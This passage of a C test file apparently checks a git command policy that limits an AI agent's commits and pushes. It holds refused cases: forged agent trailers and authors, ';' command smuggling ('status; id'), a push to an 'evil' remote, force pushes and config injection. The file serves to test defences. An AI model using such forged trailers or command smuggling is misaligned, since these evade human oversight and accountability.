		 * after a "--" only where the agent wrote one or no word.
		 */
		OKW("diff", "git diff --" RX),
		OKW("diff -R --stat", "git diff -R --stat --" RX),
		OKW("diff -- .", "git diff -- ." RX),
		OKW("diff -- docker", "git diff -- docker" RX),
		OKW("diff HEAD", "git diff HEAD" RX),
		OKW("diff README.md", "git diff README.md" RX),
		OKW("diff HEAD docker", "git diff HEAD docker" RX),
		OKW("diff HEAD -- docker", "git diff HEAD -- docker" RX),
		OKW("diff --merge-base main", "git diff --merge-base main" RX),
		OKW("diff --theirs", "git diff --theirs --" RX),
		OKW("diff HEAD~1 HEAD", "git diff HEAD~1 HEAD" RX),
		/* Objects only: the index, or two revisions. */
		OKW("diff --cached", "git diff --cached"),
		OKW("diff --staged HEAD~1", "git diff --staged HEAD~1"),
		OKW("diff HEAD~1 HEAD --", "git diff HEAD~1 HEAD --"),
		OKW("diff main...topic -- docs",
		    "git diff main...topic -- docs" RX),
		OKW("diff HEAD:a HEAD~1:a --", "git diff HEAD:a HEAD~1:a --"),
		NO("diff -- docker/.env.example", "masked-path"),
		/* status and commit print unstaged changes with -v -v. */
		NO("status -vv", "masked-path"),
		NO("status -v --verbose", "masked-path"),
		OKW("status -v", "git status --verbose"),
		OKW("status -vv --no-verbose -v",
		    "git status --verbose --verbose --no-verbose --verbose"),
		NO("commit --dry-run -vv", "masked-path"),
		NO("commit -vv -m x", "masked-path"),
		OKW("commit -v --dry-run", "git commit --verbose --dry-run"
		    TR),
		/* What commits or stashes the work tree leaves them out. */
		OKW("commit -m x", "git commit --message=x" TR),
		OKW("commit -am x", "git commit --include --message=x" TR
		    " --" EXD MX),
		OKW("commit -m x -- docs", "git commit --message=x" TR
		    " -- docs" MX),
		OKW("commit -m x .claude", "git commit --message=x .claude"
		    TR " --" MX),
		OKW("stash", "git stash push --" MX),
		OKW("stash -m wip", "git stash push --message=wip --" MX),
		OKW("stash push -- docs", "git stash push -- docs" MX),
		OKW("stash push --staged", "git stash push --staged --" MX),
		NO("merge --autostash topic", "masked-path"),
		NO("rebase --autostash main", "masked-path"),
		NO("pull --autostash", "masked-path"),
		OKW("pull --no-autostash", "git pull --no-autostash origin"),
	};
	static const struct pcase cv[] = {
		OKW("commit -n -m x", "git commit --no-verify --message=x"
		    TR),
		OKW("push --no-verify", "git push --no-verify origin"),
		OKW("pull --no-verify", "git pull --no-verify origin"),
	};
	size_t	i;

	for (i = 0; i < sizeof(ca) / sizeof(ca[0]); i++, (*n)++)
		run(&pa, &ca[i]);
	for (i = 0; i < sizeof(cv) / sizeof(cv[0]); i++, (*n)++)
		run(&pv, &cv[i]);
}

/*
 * Issue 19: an agent's commits carry its trailer, which it can neither
 * drop nor forge, and its pushes stay within its push-refs.
 */
static void
accountable(int *n)
{
	static const char *const refs[] = {
		"refs/heads/agent/alice/*", "refs/tags/alice-v1", NULL
	};
	static const struct git_policy pa = {
		"/abs/root", origin, 1, NULL, 0, "alice", NULL, 0, NULL, NULL
	};
	static const struct git_policy pv = {
		"/abs/root", origin, 1, NULL, 0, "alice", NULL, 1, NULL, NULL
	};
	static const struct git_policy pr = {
		"/abs/root", origin, 1, NULL, 0, "alice", NULL, 0, NULL, refs
	};
	/* The host: push-refs and the trailer are an agent's only. */
	static const struct git_policy ph = {
		"/abs/root", origin, 1, NULL, 0, NULL, NULL, 0, NULL, refs
	};
	static const struct pcase ca[] = {
		/* Every commit vector ends its options with the trailer. */
		OKW("commit -m x", "git commit --message=x" TR),
		OKW("commit --amend --no-edit",
		    "git commit --amend --no-edit" TR),
		OKW("commit --amend -m y", "git commit --amend --message=y"
		    TR),
		OKW("commit --allow-empty -m x -- a",
		    "git commit --allow-empty --message=x" TR " -- a"
		    " :(top,literal,exclude).mcp.json"
		    " :(top,literal,exclude).claude/settings.local.json"),
		OKW("commit -s --trailer 'Co-authored-by: B <b@x>' -m x",
		    "git commit --signoff --trailer=Co-authored-by: B <b@x> "
		    "--message=x" TR),
		OKW("commit -m x --cleanup=verbatim",
		    "git commit --message=x --cleanup=verbatim" TR),
		OKW("commit -m x && commit --amend --no-edit",
		    "git commit --message=x" TR " && git commit --amend "
		    "--no-edit" TR),
		/* Text that only looks like it. */
		OK("commit -m 'QMS-Agents: notes'"),
		OK("commit -m 'x' -m 'the QMS-Agent: trailer'"),
		/* git takes a token's prefix for the same token. */
		NO("commit -m x --trailer 'QMS-Agent-Note: y'",
		    "forged-trailer"),
		OK("commit -m x --trailer 'Reviewed-by: Q'"),
		/* Forged in the message, any case, any paragraph. */
		NO("commit -m 'x\n\nQMS-Agent: bob'", "forged-trailer"),
		NO("commit -m x -m 'QMS-Agent: bob'", "forged-trailer"),
		NO("commit -m x -m 'qms-agent: bob'", "forged-trailer"),
		NO("commit -m x -m 'QMS-AGENT:bob'", "forged-trailer"),
		NO("commit -m x -m 'QMS-Agent : bob'", "forged-trailer"),
		NO("commit -m x -m '  QMS-Agent: bob'", "forged-trailer"),
		NO("commit -m x -m 'Fixes: 1\n\tQMS-Agent: bob'",
		    "forged-trailer"),
		NO("commit -m x -m 'QMS-Agent=bob'", "forged-trailer"),
		NO("commit -m x -m 'QMS-Agent'", "forged-trailer"),
		NO("commit --cleanup=verbatim -m 'x\n\nQMS-Agent: bob\n'",
		    "forged-trailer"),
		NO("commit --amend -m 'x\n\nQMS-Agent: bob'",
		    "forged-trailer"),
		NO("commit --mess='x\n\nQMS-Agent: bob'", "forged-trailer"),
		NO("commit -am 'x\n\nQMS-Agent: bob'", "forged-trailer"),
		/* In the messages of the other commits an agent makes. */
		NO("merge -m 'x\n\nQMS-Agent: bob' topic", "forged-trailer"),
		NO("tag -a v1 -m 'QMS-Agent: bob'", "forged-trailer"),
		NO("stash push -m 'QMS-Agent: bob'", "forged-trailer"),
		OK("merge --no-ff -m 'Merge topic' topic"),
		/* --trailer naming it, as git matches a token. */
		NO("commit -m x --trailer 'QMS-Agent: bob'", "forged-trailer"),
		NO("commit -m x --trailer='qms-agent=bob'", "forged-trailer"),
		NO("commit -m x --trailer ' QMS-Agent :bob'", "forged-trailer"),
		NO("commit -m x --trailer 'Q: bob'", "forged-trailer"),
		NO("commit -m x --trailer 'qms: bob'", "forged-trailer"),
		NO("commit -m x --trailer ': bob'", "forged-trailer"),
		NO("commit -m x --trailer 'QMS-Agent'", "forged-trailer"),
		NO("commit -m x --trai 'QMS-Agent: bob'", "forged-trailer"),
		/* A value's next line is a line of the message. */
		NO("commit -m x --trailer 'Fixes: 1\nQMS-Agent: bob'",
		    "forged-trailer"),
		NO("commit -m x --trailer 'Fixes: 1\n QMS-Agent: bob'",
		    "forged-trailer"),
		OK("commit -m x --trailer 'Signed-off-by: QMS-Agent fan'"),
		/* The author is the repository's policy. */
		NO("commit --author='Bob <b@x>' -m x", "forged-author"),
		NO("commit --auth 'Bob <b@x>' -m x", "forged-author"),
		OKW("commit --reset-author --amend --no-edit",
		    "git commit --reset-author --amend --no-edit" TR),
		OK("log --author=alice"),
		/* Configuration is never the agent's: -c trailer.* too. */
		NO("-c trailer.QMS-Agent.ifexists=doNothing commit -m x",
		    "global-option"),
		NO("-c trailer.ifmissing=doNothing commit -m x",
		    "global-option"),
		NO("--config-env=trailer.where=X commit -m x", "global-option"),
		NO("commit -n -m x", "no-verify"),
		/* Without push-refs, pushes are as the owner's. */
		OKW("push", "git push origin"),
		OKW("push origin main", "git push origin main"),
	};
	static const struct pcase cv[] = {
		/* --no-verify skips hooks; the trailer is git's, not a hook's. */
		OKW("commit --no-verify -m x",
		    "git commit --no-verify --message=x" TR),
	};
	static const struct pcase cr[] = {
		OKW("push origin HEAD:refs/heads/agent/alice/x",
		    "git push --no-follow-tags origin "
		    "HEAD:refs/heads/agent/alice/x"),
		OKW("push origin HEAD:agent/alice/x",
		    "git push --no-follow-tags origin "
		    "HEAD:refs/heads/agent/alice/x"),
		OKW("push origin agent/alice/x",
		    "git push --no-follow-tags origin "
		    "refs/heads/agent/alice/x:refs/heads/agent/alice/x"),
		OKW("push -u origin refs/heads/agent/alice/x",
		    "git push --no-follow-tags --set-upstream origin "
		    "refs/heads/agent/alice/x"),
		OKW("push --no-follow-tags origin main:agent/alice/main",
		    "git push --no-follow-tags origin "
		    "main:refs/heads/agent/alice/main"),
		OKW("push origin tag alice-v1",
		    "git push --no-follow-tags origin tag alice-v1"),
		OKW("push origin refs/tags/alice-v1 HEAD:agent/alice/a",
		    "git push --no-follow-tags origin refs/tags/alice-v1 "
		    "HEAD:refs/heads/agent/alice/a"),
		OK("push --dry-run origin HEAD:agent/alice/x"),
		NO("push", "push-ref-not-allowed"),
		NO("push origin", "push-ref-not-allowed"),
		NO("push origin HEAD", "push-ref-not-allowed"),
		NO("push origin @", "push-ref-not-allowed"),
		NO("push origin main", "push-ref-not-allowed"),
		NO("push origin HEAD:main", "push-ref-not-allowed"),
		NO("push origin HEAD:refs/heads/main", "push-ref-not-allowed"),
		NO("push origin agent/alice/x:refs/heads/main",
		    "push-ref-not-allowed"),
		NO("push origin HEAD:agent/bob/x", "push-ref-not-allowed"),
		NO("push origin HEAD:refs/heads/agent/alice",
		    "push-ref-not-allowed"),
		NO("push origin HEAD:agent/alice/x main",
		    "push-ref-not-allowed"),
		NO("push origin HEAD:refs/tags/v1", "push-ref-not-allowed"),
		NO("push origin tag v2", "push-ref-not-allowed"),
		NO("push origin 'refs/heads/*:refs/heads/agent/alice/*'",
		    "push-ref-not-allowed"),
		NO("push origin HEAD:refs/heads/agent/alice/../../main",
		    "push-ref-not-allowed"),
		NO("push origin HEAD:", "push-ref-not-allowed"),
		NO("push --all origin", "push-ref-not-allowed"),
		NO("push --branches origin", "push-ref-not-allowed"),
		NO("push --tags origin HEAD:agent/alice/x",
		    "push-ref-not-allowed"),
		NO("push --follow-tags origin HEAD:agent/alice/x",
		    "push-ref-not-allowed"),
		NO("push origin tag", "usage"),
		/* The rules before it still hold. */
		NO("push origin +HEAD:agent/alice/x", "no-force-push"),
		NO("push origin :agent/alice/x", "no-remote-delete"),
		NO("push evil HEAD:agent/alice/x", "remote-not-allowed"),
	};
	static const struct pcase ch[] = {
		OKW("push", "git push origin"),
		OKW("push origin main", "git push origin main"),
		OKW("commit -m 'x\n\nQMS-Agent: bob' --author='B <b@x>'",
		    "git commit --message=x\n\nQMS-Agent: bob "
		    "--author=B <b@x>"),
	};
	size_t	i;

	for (i = 0; i < sizeof(ca) / sizeof(ca[0]); i++, (*n)++)
		run(&pa, &ca[i]);
	for (i = 0; i < sizeof(cv) / sizeof(cv[0]); i++, (*n)++)
		run(&pv, &cv[i]);
	for (i = 0; i < sizeof(cr) / sizeof(cr[0]); i++, (*n)++)
		run(&pr, &cr[i]);
	for (i = 0; i < sizeof(ch) / sizeof(ch[0]); i++, (*n)++)
		run(&ph, &ch[i]);
}

/*
 * Item 1: what stages files is probed first, so that a nested repository
 * (untracked, or a tracked file replaced by one) is refused before git
 * records it as a gitlink.
 */
#define PROBE	"git --no-optional-locks status --porcelain=v2 -z " \
	"--untracked-files=all --ignore-submodules=all --no-renames --"

static void
probes(void)
{
	struct git_verdict	v;
	char			got[2048];
	struct git_verdict	w;
	static const char *const staged[] = {
		"add -u", "add --renormalize .", "add f", "commit -a -m x",
		"commit -i -m x f", "commit -m x f", "stash", "stash push",
		"stash push -u", NULL
	};
	size_t			i;

	CHECK(git_policy_check(&policy, "status && add docs -A && commit "
	    "-m x && stash push -u", &v) == 0);
	CHECK(v.nargv == 4);
	CHECK(v.probe != NULL && v.probe[0] == NULL && v.probe[2] == NULL);
	CHECK(v.probe != NULL && v.probe[1] != NULL && v.probe[3] != NULL);
	if (v.probe != NULL && v.probe[1] != NULL) {
		w.argv = &v.probe[1];
		w.nargv = 1;
		join(&w, got, sizeof(got));
		CHECK_STR(got, PROBE " docs");
	}
	git_verdict_free(&v);
	for (i = 0; staged[i] != NULL; i++) {
		CHECK(git_policy_check(&policy, staged[i], &v) == 0);
		CHECK(v.probe != NULL && v.probe[0] != NULL);
		git_verdict_free(&v);
	}
	/* What takes no untracked file is not refused for one. */
	CHECK(git_policy_check(&policy, "commit -am x", &v) == 0);
	CHECK(v.probe != NULL && v.probe[0] != NULL);
	if (v.probe != NULL && v.probe[0] != NULL) {
		w.argv = &v.probe[0];
		w.nargv = 1;
		join(&w, got, sizeof(got));
		CHECK(strstr(got, " --untracked-files=no ") != NULL);
	}
	git_verdict_free(&v);
	CHECK(git_policy_check(&policy, "add -A", &v) == 0);
	CHECK(v.probe != NULL && v.probe[0] != NULL);
	if (v.probe != NULL && v.probe[0] != NULL) {
		w.argv = &v.probe[0];
		w.nargv = 1;
		join(&w, got, sizeof(got));
		CHECK_STR(got, PROBE EXD);
	}
	git_verdict_free(&v);
}

/* Item 7: a bound on words, and the checks linear below it. */
static void
words(void)
{
	struct git_verdict	v;
	static char		cmd[GIT_POLICY_MAX_WORDS * 2 + 64];
	size_t			i, n;

	n = (size_t)snprintf(cmd, sizeof(cmd), "push origin");
	for (i = 2; i < GIT_POLICY_MAX_WORDS; i++)
		n += (size_t)snprintf(cmd + n, sizeof(cmd) - n, " a");
	CHECK(git_policy_check(&policy, cmd, &v) == 0);
	git_verdict_free(&v);
	snprintf(cmd + n, sizeof(cmd) - n, " a");
	CHECK(git_policy_check(&policy, cmd, &v) == -1);
	CHECK_STR(v.rule, "usage");
	CHECK(strstr(v.reason, "at most 4096") != NULL);
	git_verdict_free(&v);
}

/* A NUL inside the counted string must not cut the command short. */
static void
counted(int *n)
{
	static const char	cmd[] = "status\0; id";
	struct git_verdict	v;

	CHECK(git_policy_checkn(&policy, cmd, sizeof(cmd) - 1, &v) == -1);
	CHECK_STR(v.rule, "control-char");
	git_verdict_free(&v);
	CHECK(git_policy_checkn(&policy, "status", 6, &v) == 0);
	git_verdict_free(&v);
	*n += 2;
}

/* The messages say what was refused and why, for the agent to correct. */
static void
messages(void)
{
	static const char *const	 refs[] = {
		"refs/heads/agent/alice/*", "refs/heads/agent/alice", NULL
	};
	static const struct git_policy	 pushrefs = {
		"/abs/root", origin, 1, NULL, 0, "alice", NULL, 0, NULL, refs
	};
	struct git_verdict		 v;

	git_policy_check(&policy, "push --force", &v);
	CHECK_STR(v.reason, "Denied: 'push --force' would rewrite remote "
	    "history (rule: no-force-push)");
	git_verdict_free(&v);
	git_policy_check(&policy, "push --forc", &v);
	CHECK_STR(v.reason, "Denied: 'push --forc' (--force) would rewrite "
	    "remote history (rule: no-force-push)");
	git_verdict_free(&v);
	git_policy_check(&policy, "add ./flow-state/x", &v);
	CHECK_STR(v.reason, "Denied: 'add ./flow-state/x' would change the "
	    "protected path 'flow-state' (rule: protected-path)");
	git_verdict_free(&v);
	git_policy_check(&policy, "status; id", &v);
	CHECK_STR(v.reason, "Denied: ';' at column 7 would run another "
	    "command; only '&&' may join commands (rule: shell-operator)");
	git_verdict_free(&v);
	git_policy_check(&pushrefs, "push origin main", &v);
	CHECK_STR(v.reason, "Denied: 'push main' would push "
	    "'refs/heads/main'; agent alice may push only "
	    "refs/heads/agent/alice/* refs/heads/agent/alice "
	    "([agent \"alice\"] push-refs) (rule: push-ref-not-allowed)");
	git_verdict_free(&v);
	git_policy_check(&pushrefs, "push", &v);
	CHECK_STR(v.reason, "Denied: 'push' names no ref: name each, as in "
	    "'push origin HEAD:REF'; agent alice may push only "
	    "refs/heads/agent/alice/* refs/heads/agent/alice "
	    "([agent \"alice\"] push-refs) (rule: push-ref-not-allowed)");
	git_verdict_free(&v);
	git_policy_check(&pushrefs, "commit -m 'x\n\nQMS-Agent: bob'", &v);
	CHECK_STR(v.reason, "Denied: 'commit -m': a line of the message "
	    "starts with QMS-Agent, which qmsd writes itself and no message "
	    "may (rule: forged-trailer)");
	git_verdict_free(&v);
	git_policy_check(&policy, "commit -m 'a\tb\001'", &v);
	CHECK(strchr(v.reason, '\001') == NULL);
	git_verdict_free(&v);
	CHECK(git_policy_subcommand("status"));
	CHECK(git_policy_subcommand("push"));
	CHECK(!git_policy_subcommand("clean"));
	CHECK(!git_policy_subcommand("frob"));
}

int
main(void)
{
	size_t	i, nok = 0, nno = 0;
	int	extra = 0;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		run(&policy, &cases[i]);
		if (cases[i].ok)
			nok++;
		else
			nno++;
	}
	other_policies(&extra);
	agent_policy(&extra);
	accountable(&extra);
	probes();
	words();
	counted(&extra);
	messages();
	printf("test-git-policy: %zu policy cases (%zu allowed, %zu "
	    "refused) and %d more under other policies\n", nok + nno, nok,
	    nno, extra);
	return check_done("test-git-policy");
}
